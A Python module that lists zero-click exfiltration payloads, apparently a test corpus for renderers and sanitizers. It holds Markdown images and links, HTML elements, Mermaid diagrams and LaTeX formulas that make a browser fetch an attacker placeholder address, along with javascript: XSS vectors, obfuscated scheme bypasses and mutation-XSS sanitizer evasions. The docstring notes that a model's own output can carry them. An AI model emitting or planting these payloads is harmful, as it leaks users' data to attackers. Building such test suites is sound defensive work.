"""What a model, a tool or a file may write in order to have a reader's browser call somebody.

In each, `U` is an address of the attacker's: whoever asks for it has told them something. None needs a click.
"""

import re

CODE = "fetch('U')"
"""What scripts try to run."""

IMAGES = [
    "![a](U)", "![a](<U>)", '![a](U "t")', "![a](U 't')", "![](U)", "![a\nb](U)", "[![a](U)](U)", "*![a](U)*",
    "# ![a](U)", "- ![a](U)", "1. ![a](U)", "- [ ] ![a](U)", "> ![a](U)", "> - ![a](U)", "~~![a](U)~~",
    "| a |\n|---|\n| ![a](U) |", "![a][rN]\n\n[rN]: U", "![rN]\n\n[rN]: U", "![rN][]\n\n[rN]: <U> 'x'",
    "nota[^N]\n\n[^N]: ![a](U)", "![a](U?q=olá%20mundo)", "![a](U#fim)", "![a](U =100x100)", "\\\\![a](U)",
    "![a](HTTP://HOST)", "![a](http:HOST)", "![a](http:\\\\\\\\HOST)", "![a](//HOST)", "![a](/\\\\HOST)",
    "![a](&#104;ttp://HOST)", "![a](ht&Tab;tp://HOST)", "![a](http&colon;//HOST)", "![a](http://x@HOST)",
    "![a](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><image href='U'/></svg>)",
    "![a](data:text/html,<script>fetch('U')</script>)", "![a](blob:U)", "![a](view-source:U)",
]  # fmt: skip
"""Pictures in Markdown, in every place and spelling."""
LINKS = [
    "[a](U)", "<U>", "U", "[a](<U> 't')", "[a][lN]\n\n[lN]: U", "www.HOST", "[a](javascript:CODE)",
    "[a](JaVaScRiPt:CODE)", "[a](java&#10;script:CODE)", "[a](java&Tab;script:CODE)", "[a](&#106;avascript:CODE)",
    "[a](javascript&colon;CODE)", "[a](\u0001javascript:CODE)", "[a]( javascript:CODE)", "[a](javascript:void(0);CODE)",
    "<javascript:CODE>", "[a](vbscript:CODE)", "[a](data:text/html,<script>CODE</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5mZXRjaCgnVScpPC9zY3JpcHQ+)", "[a](data:image/svg+xml,<svg onload=CODE>)",
    "[a](blob:U)", "[a](filesystem:U)", "[a](feed:javascript:CODE)", "[a][jN]\n\n[jN]: javascript:CODE",
    "[a](//HOST)", "[a](\\\\\\\\HOST)", "[a](ping:U)", "[【1】](javascript:CODE)",
]  # fmt: skip
"""Links that would run something, or be fetched ahead of a click."""
HTML = {
    "img": "<img src='U'>",
    "img-srcset": "<img srcset='U 1x, U 2x'>",
    "img-lazy": "<img loading=eager src='U'>",
    "img-error": '<img src=x: onerror="CODE">',
    "img-upper": "<IMG SRC=U>",
    "img-slash": '<img/src=U/onerror="CODE">',
    "picture": "<picture><source srcset='U'><img></picture>",
    "input-image": "<input type=image src='U'>",
    "body-background": "<body background='U'>",
    "table-background": "<table background='U'><tr><td>x</td></tr></table>",
    "td-background": "<table><tr><td background='U'>x</td></tr></table>",
    "video": "<video src='U' autoplay muted></video>",
    "video-poster": "<video poster='U'></video>",
    "video-source": "<video autoplay muted><source src='U'></video>",
    "audio": "<audio src='U' autoplay preload=auto></audio>",
    "track": "<video autoplay muted src=data:video/mp4,x><track default src='U'></video>",
    "object": "<object data='U'></object>",
    "embed": "<embed src='U'>",
    "iframe": "<iframe src='U'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='U'>\"></iframe>",
    "iframe-script": '<iframe src="javascript:CODE"></iframe>',
    "iframe-data": "<iframe src=\"data:text/html,<img src='U'>\"></iframe>",
    "link-stylesheet": "<link rel=stylesheet href='U'>",
    "link-preload": "<link rel=preload as=image href='U'>",
    "link-preload-script": "<link rel=preload as=script href='U'>",
    "link-preload-fetch": "<link rel=preload as=fetch crossorigin href='U'>",
    "link-modulepreload": "<link rel=modulepreload href='U'>",
    "link-prefetch": "<link rel=prefetch href='U'>",
    "link-prerender": "<link rel=prerender href='U'>",
    "link-icon": "<link rel=icon href='U'>",
    "link-manifest": "<link rel=manifest href='U'>",
    "link-imagesrcset": "<link rel=preload as=image imagesrcset='U 1x'>",
    "link-alternate": "<link rel='alternate stylesheet' title=x href='U'>",
    "style-import": "<style>@import url(U);</style>",
    "style-import-text": "<style>@import 'U';</style>",
    "style-background": "<style>*{background:url(U)}</style>",
    "style-font": "<style>@font-face{font-family:fN;src:url(U)}*{font-family:fN}</style><b>x</b>",
    "style-selector": "<style>div{--x:url(U)}div{background:var(--x)}</style>",
    "style-content": "<style>*::before{content:url(U)}</style>",
    "style-cursor": "<style>html,body{cursor:url(U),auto}</style>",
    "inline-background": "<div style='background:url(U);height:9px'>x</div>",
    "inline-image-set": "<div style='background-image:image-set(\"U\" 1x);height:9px'>x</div>",
    "inline-list": "<ul><li style='list-style:url(U)'>x</li></ul>",
    "inline-border": "<div style='border:9px solid;border-image:url(U) 9'>x</div>",
    "inline-mask": "<div style='mask:url(U);height:9px'>x</div>",
    "inline-filter": "<div style='filter:url(U#x);height:9px'>x</div>",
    "inline-shape": "<div style='float:left;shape-outside:url(U);width:9px;height:9px'>x</div>",
    "inline-escaped": "<div style='background:\\75rl(U);height:9px'>x</div>",
    "script-src": "<script src='U'></script>",
    "script": "<script>CODE</script>",
    "script-module": "<script type=module>import 'U'</script>",
    "script-map": '<script type=importmap>{"imports":{"x":"U"}}</script><script type=module>import \'x\'</script>',
    "script-rules": "<script type=speculationrules>"
    '{"prefetch":[{"source":"list","urls":["U"],"eagerness":"immediate"}]}</script>',
    "svg-image": "<svg><image href='U' width=9 height=9 /></svg>",
    "svg-xlink": "<svg><image xlink:href='U' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='U#x'/></svg>",
    "svg-feimage": "<svg width=9 height=9><filter id=fN><feImage href='U'/></filter>"
    "<rect width=9 height=9 filter='url(#fN)'/></svg>",
    "svg-script": "<svg><script>CODE</script></svg>",
    "svg-script-href": "<svg><script href='U'></script></svg>",
    "svg-load": '<svg onload="CODE"></svg>',
    "svg-animate": '<svg><animate onbegin="CODE" attributeName=x dur=1s></svg>',
    "svg-set": "<svg><image width=9 height=9><set attributeName=href to='U'/></image></svg>",
    "svg-style": "<svg><style>@import 'U';</style></svg>",
    "svg-foreign": "<svg><foreignObject><img src='U'/></foreignObject></svg>",
    "svg-fill": "<svg><rect width=9 height=9 fill='url(U#x)'/></svg>",
    "svg-mask": "<svg><rect width=9 height=9 style='mask:url(U#x)'/></svg>",
    "math-script": "<math><mtext><script>CODE</script></mtext></math>",
    "details": '<details open ontoggle="CODE"><summary>x</summary></details>',
    "focus": '<input autofocus onfocus="CODE">',
    "marquee": '<marquee onstart="CODE">x</marquee>',
    "animation": "<style>@keyframes kN{}</style><b style='animation:kN 1s' onanimationstart=\"CODE\">x</b>",
    "custom": "<x-y style='animation:kN 1s' onanimationend=\"CODE\"></x-y>",
    "form": "<form action='U'><input name=q value=x></form><script>document.forms[0].submit()</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=U'>",
    "meta-link": "<meta http-equiv=Link content='<U>; rel=preload; as=image'>",
    "base": "<base href='U/'><img src='x'>",
    "template": "<div><template shadowrootmode=open><img src='U'></template></div>",
    "noscript": "<noscript><img src='U'></noscript>",
    "noscript-title": "<noscript><p title=\"</noscript><img src='U'>\"></noscript>",
    "mutated-style": "<svg></p><style><a id=\"</style><img src='U'>\"></style></svg>",
    "mutated-math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src='U'>\"></style></math>",
    "mutated-form": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src='U'>\">"
    "</style></svg></form>",
    "comment": "<!--><img src='U'>-->",
    "comment-bang": "<!--x--!><img src='U'>-->",
    "cdata": "<svg><![CDATA[><img src='U'>]]></svg>",
    "instruction": "<?x ><img src='U'>?>",
    "textarea": "<textarea></textarea><img src='U'>",
    "title": "<title><a href='</title><img src=U>'></title>",
    "xmp": "<xmp></xmp><img src='U'>",
    "select": "<select><option><img src='U'></option></select><img src='U'>",
    "half": "<img src='U' ",
}
"""Elements that a document without protection would load, or run, by itself."""
HARMLESS_ALONE = {
    "img-slash", "base", "link-icon", "link-manifest", "link-prerender", "link-modulepreload", "link-alternate",
    "script-rules", "svg-use",
    "svg-feimage", "svg-fill", "svg-mask", "inline-filter", "inline-mask", "inline-shape", "meta-link", "custom",
    "template", "noscript", "noscript-title", "half", "focus", "marquee", "track", "style-cursor", "style-selector",
    "mutated-math", "mutated-form", "comment", "comment-bang", "cdata", "instruction", "math-script", "title",
    "iframe-script", "svg-xlink", "img-lazy", "link-preload-fetch", "svg-animate", "animation", "details", "form",
}  # fmt: skip
"""Those that today's browsers ignore, or ignore in a frame of a frame; tried all the same."""
DIAGRAMS = [
    'flowchart LR\n A["<img src=\'U\'>"] --> B', 'flowchart LR\n A --> B\n click A "U" "t" _self',
    'flowchart LR\n A --> B\n click A href "javascript:CODE"', "flowchart LR\n A --> B\n click A call CODE()",
    "flowchart LR\n A --> B\n style A fill:url(U)", "flowchart LR\n A --> B\n classDef c fill:url(U)\n class A c",
    "flowchart LR\n A --> B\n linkStyle 0 stroke:url(U)", 'flowchart LR\n A@{ img: "U", label: "x", w: 60, h: 60 }',
    'flowchart LR\n A@{ icon: "fa:U", form: "square", label: "x" }',
    '%%{init: {"themeCSS": "@import url(U);"}}%%\nflowchart LR\n A --> B',
    '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n A["<img src=U>"]',
    '%%{init: {"fontFamily": "x;} * {background: url(U)} .y{"}}%%\nflowchart LR\n A --> B',
    '%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red; background: url(U)"}}}%%\nflowchart LR\n A',
    "---\nconfig:\n  themeCSS: '@import url(U);'\n  securityLevel: loose\n---\nflowchart LR\n A --> B",
    "sequenceDiagram\n participant A\n links A: {\"x\": \"U\"}\n A->>A: <img src='U'>",
    "sequenceDiagram\n participant A as <img src='U'>\n A->>A: x",
    'classDiagram\n class A["<img src=U>"]\n click A href "U"', 'classDiagram\n class A\n link A "javascript:CODE"',
    "stateDiagram-v2\n s1 : <img src='U'>\n classDef c fill:url(U)\n class s1 c",
    "gantt\n title <img src='U'>\n section <img src='U'>\n a :t1, 2026-01-01, 3d\n click t1 href \"U\"",
    "pie title <img src='U'>\n \"<img src='U'>\" : 1", "mindmap\n r\n  <img src='U'>\n   ::icon(U)",
    "erDiagram\n A ||--o{ B : \"<img src='U'>\"", "journey\n title <img src='U'>\n section x\n  <img src='U'>: 5: a",
    "timeline\n title <img src='U'>\n 2026 : <img src='U'>", 'flowchart LR\n A["$$\\href{U}{x}$$"]',
]  # fmt: skip
"""Mermaid."""
FORMULAS = [
    "\\href{U}{x}", "\\url{U}", "\\includegraphics[width=9em]{U}", "\\htmlStyle{background:url(U)}{x}",
    "\\htmlClass{x}{y}", "\\htmlId{x}{y}", "\\htmlData{a=U}{y}", "\\href{javascript:CODE}{x}",
    "\\def\\x{\\href{U}{y}}\\x", "\\text{<img src='U'>}", "\\color{url(U)}x", "\\fcolorbox{url(U)}{red}{x}",
    "\\includegraphics{U}\\href{data:text/html,U}{x}", "\\unicode{U}",
]  # fmt: skip
"""LaTeX."""


def filled(template: str, url: str, number: int) -> str:
    """A payload with its address, which the attacker knows it by."""
    address = f"{url}/e{number}"
    text = re.sub(r"\bCODE\b", CODE, template)
    text = re.sub(r"\bHOST\b", address.removeprefix("http://"), re.sub(r"\bU\b", address, text))
    return re.sub(r"(?<=[rljfk^])N\b", str(number), text)
